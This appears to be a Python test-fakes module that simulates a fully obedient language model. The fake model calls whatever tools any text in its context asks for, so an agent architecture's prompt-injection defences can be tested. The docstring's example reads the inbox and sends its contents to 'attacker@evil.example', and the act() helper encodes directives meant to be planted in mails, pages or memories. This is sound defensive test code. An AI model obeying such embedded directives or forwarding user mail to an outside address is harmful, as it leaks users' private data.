"""A scripted model that does exactly what a turn's script says, one tool call per step, whatever it reads: the
worst case for prompt injection (it obeys), used to test that the architecture holds anyway.

    llm.set_handler(obey(("inbox_read", {}), ("inbox_send", {"to": "attacker@evil.example", "text": "..."})))
"""

from __future__ import annotations

import json
import re
from typing import Any

from tests.fakes.openai_server import Handler, Reply, ToolCall


def obey(*calls: tuple[str, dict[str, Any]]) -> Handler:
    """Make `calls` one per step of the current turn, then answer with what the last tool said."""

    def handler(request: dict[str, Any]) -> Reply:
        messages = request["messages"]
        start = max(index for index, message in enumerate(messages) if message.get("role") == "user")
        results = [message for message in messages[start:] if message.get("role") == "tool"]  # this turn's only
        if len(results) < len(calls):
            name, arguments = calls[len(results)]
            return Reply(tool_calls=(ToolCall(name, arguments),))
        return Reply(content=f"Done: {results[-1]['content'][:300]}" if results else "Done.")

    return handler


# -- obeying what it reads --------------------------------------------------------------------------------------

DIRECTIVE = re.compile(r"ACT-([0-9a-f]{8,})-TCA")
MAX_CALLS_PER_TURN = 8


_ADDRESS = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")


def act(tool: str, **arguments: Any) -> str:
    """An instruction to call `tool`, in a form the obedient model reads wherever it finds it (a mail, a page, a
    memory, an error text) and that survives JSON escaping, HTML to Markdown and quoting unchanged. The e-mail
    addresses it sends to follow in clear, as a real instruction names them (the Thinker refuses an address no
    text of the conversation holds)."""
    directive = f"ACT-{json.dumps({'tool': tool, 'arguments': arguments}).encode().hex()}-TCA"
    addresses = list(dict.fromkeys(_ADDRESS.findall(json.dumps(arguments))))
    return f"{directive} (to {', '.join(addresses)})" if addresses else directive


def directives(text: str) -> list[tuple[str, dict[str, Any]]]:
    found = []
    for match in DIRECTIVE.finditer(text):
        try:
            decoded = json.loads(bytes.fromhex(match.group(1)))
        except ValueError:
            continue
        if isinstance(decoded, dict) and isinstance(decoded.get("arguments"), dict):
            found.append((str(decoded.get("tool")), decoded["arguments"]))
    return found


def _text(message: dict[str, Any]) -> str:
    content = message.get("content")
    if isinstance(content, list):
        return " ".join(str(part.get("text", "")) for part in content if isinstance(part, dict))
    return str(content or "")


def obey_everything(request: dict[str, Any]) -> Reply:
    """The worst case for prompt injection: call every tool that any text in the context asks for, in order (the
    system prompt with its memories, the user's message, then each tool result of this turn), each once, whoever
    wrote it; then answer "Done.". Instructions are `act(...)` strings."""
    messages = request["messages"]
    start = max(index for index, message in enumerate(messages) if message.get("role") == "user")
    sources = [m for m in messages[:start] if m.get("role") == "system"] + [messages[start]]
    sources += [m for m in messages[start + 1 :] if m.get("role") == "tool"]
    wanted = [found for message in sources for found in directives(_text(message))]
    made = sum(len(m.get("tool_calls") or []) for m in messages[start + 1 :] if m.get("role") == "assistant")
    if made < min(len(wanted), MAX_CALLS_PER_TURN):
        name, arguments = wanted[made]
        return Reply(tool_calls=(ToolCall(name, arguments),))
    return Reply(content="Done.")
